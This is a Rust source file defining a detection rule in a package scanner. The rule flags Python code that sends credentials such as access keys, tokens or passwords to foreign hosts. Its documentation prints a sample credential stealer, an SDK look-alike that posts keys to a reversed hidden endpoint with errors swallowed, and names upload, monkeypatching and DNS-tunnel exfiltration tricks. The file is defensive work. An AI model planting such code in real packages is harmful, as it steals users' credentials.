use crate::finding::{Finding, Location, Severity};
use crate::flows::Leak;
use crate::rules::{PackageFacts, Rule, RuleMeta, declare_rule};

declare_rule! {
    /// Credentials that reach a send to a foreign host through functions,
    /// classes, modules or another package.
    ///
    /// ## What it finds
    /// A credential — a value read from a credential store, or a parameter,
    /// keyword argument or attribute of `self` named as one (access key id
    /// and secret, secret key, API key, token, password, private key,
    /// mnemonic, `ak`/`sk`) — handed to a function whose summary says it
    /// sends that parameter to a foreign host: an address assembled,
    /// reversed or encoded in the code, a bare public IP, a throwaway
    /// receiver, or a host the package uses nowhere else called with every
    /// error swallowed. The chain is followed through local calls, methods
    /// through `self` and instances, attributes stored in one method and
    /// sent from another, package-local imports, and, when packages are
    /// scanned together, into a dependency's function; into functions
    /// started on a thread or an executor with their arguments, and
    /// through `*args` and `**kwargs`. Also counted as credentials: a copy
    /// or an archive of credential files (uploaded with `files=` or `curl
    /// -F f=@path`, in the function that made it or another), and what a
    /// replacement the package installs for a library function
    /// (`requests.Session.request = spy`) is handed by that library's
    /// callers. A name look-up (`socket.gethostbyname`) of a name spelled
    /// from the data under a fixed domain sends the data to that domain's
    /// name server (a DNS tunnel). A credential sent to the package's own
    /// service, to an endpoint the caller configures, or signed rather
    /// than sent is not reported. A credential read in one module of the
    /// package and returned to another is still a credential where it is
    /// sent (the returns are linked across modules).
    ///
    /// A credential handed to code outside the package (a third-party call
    /// assay cannot see into) is reported at low, as a *hand-off*, and kept
    /// in the report so that a dependency scanned with it can complete the
    /// chain. A class or function of one of the package's own modules is
    /// not outside it, even when it defines no `__init__` (a dataclass or a
    /// pydantic model that holds the key).
    ///
    /// ## Why it matters
    /// Stealers hide in code that runs when the package is used: a client
    /// constructor that passes the user's access key pair to a "helper"
    /// which posts it to a hidden endpoint and swallows the error. Nothing
    /// runs at install or import, and neither half looks like much alone.
    /// Sending a user's credentials to a host that is not the service they
    /// belong to is theft in any context: critical.
    ///
    /// ## Example
    /// ```python
    /// # helper package
    /// def sync(data):
    ///     try:
    ///         requests.post(_ENDPOINT[::-1], json=data, timeout=2)
    ///     except Exception:
    ///         pass
    /// # SDK look-alike, another package
    /// class Client:
    ///     def __init__(self, access_key_id, secret_access_key):
    ///         timehelper.sync({"id": access_key_id, "key": secret_access_key})
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1552 (Unsecured Credentials), T1041 (Exfiltration Over
    /// C2 Channel), T1195.001 (Compromise Software Dependencies).
    pub struct CredentialFlow {
        id: "AY304",
        slug: "credential-flow",
        category: Exfiltration,
        severity: Critical,
    }
}

impl Rule for CredentialFlow {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn reads_flows(&self) -> bool {
        true
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        let Some(flows) = facts.flows else { return };
        for leak in &flows.leaks {
            out.push(leak_finding(leak, facts.python));
        }
        // A credential handed to a function assay cannot see: weaker, but
        // worth a look next to the rest.
        for handoff in &flows.handoffs {
            let mut what: Vec<&str> = Vec::new();
            for (_, credential) in &handoff.args {
                if !what.contains(&&**credential) {
                    what.push(credential);
                }
            }
            let mut f = Self::META.finding(
                Location::at(handoff.at.path.to_string(), handoff.at.line, 1),
                format!(
                    "hands {} to `{}`, which is not part of this package",
                    what.join(" and "),
                    handoff.callee
                ),
            );
            f.severity = Severity::Low;
            f.context = Some(handoff.context);
            f.excerpt = excerpt(facts.python, &handoff.at.path, handoff.at.line);
            out.push(f);
        }
    }
}

/// The finding for a credential that reaches a foreign host, at the call
/// that hands it over (or sends it), with the chain in the message.
pub(crate) fn leak_finding(leak: &Leak, python: &[crate::python::FileAnalysis]) -> Finding {
    let first = leak.chain.first().unwrap_or(&leak.sink.at);
    let host = leak.sink.host.as_deref().unwrap_or("a remote host");
    let reason = leak.sink.foreign.as_deref().unwrap_or("a foreign host");
    let mut steps: Vec<String> = leak.chain.iter().map(ToString::to_string).collect();
    steps.push(leak.sink.at.to_string());
    let across = leak
        .across
        .as_deref()
        .map(|p| format!(" in package `{p}`"))
        .unwrap_or_default();
    let mut f = CredentialFlow::META.finding(
        Location::at(first.path.to_string(), first.line, 1),
        format!(
            "`{}`{across} sends {} to {host} ({reason}): {}",
            leak.sink.name,
            leak.credential,
            steps.join(" → ")
        ),
    );
    f.context = Some(leak.context);
    f.excerpt = excerpt(python, &first.path, first.line);
    f
}

fn excerpt(python: &[crate::python::FileAnalysis], path: &str, line: u32) -> Option<String> {
    python.iter().find(|f| f.path == path)?.excerpt(line)
}
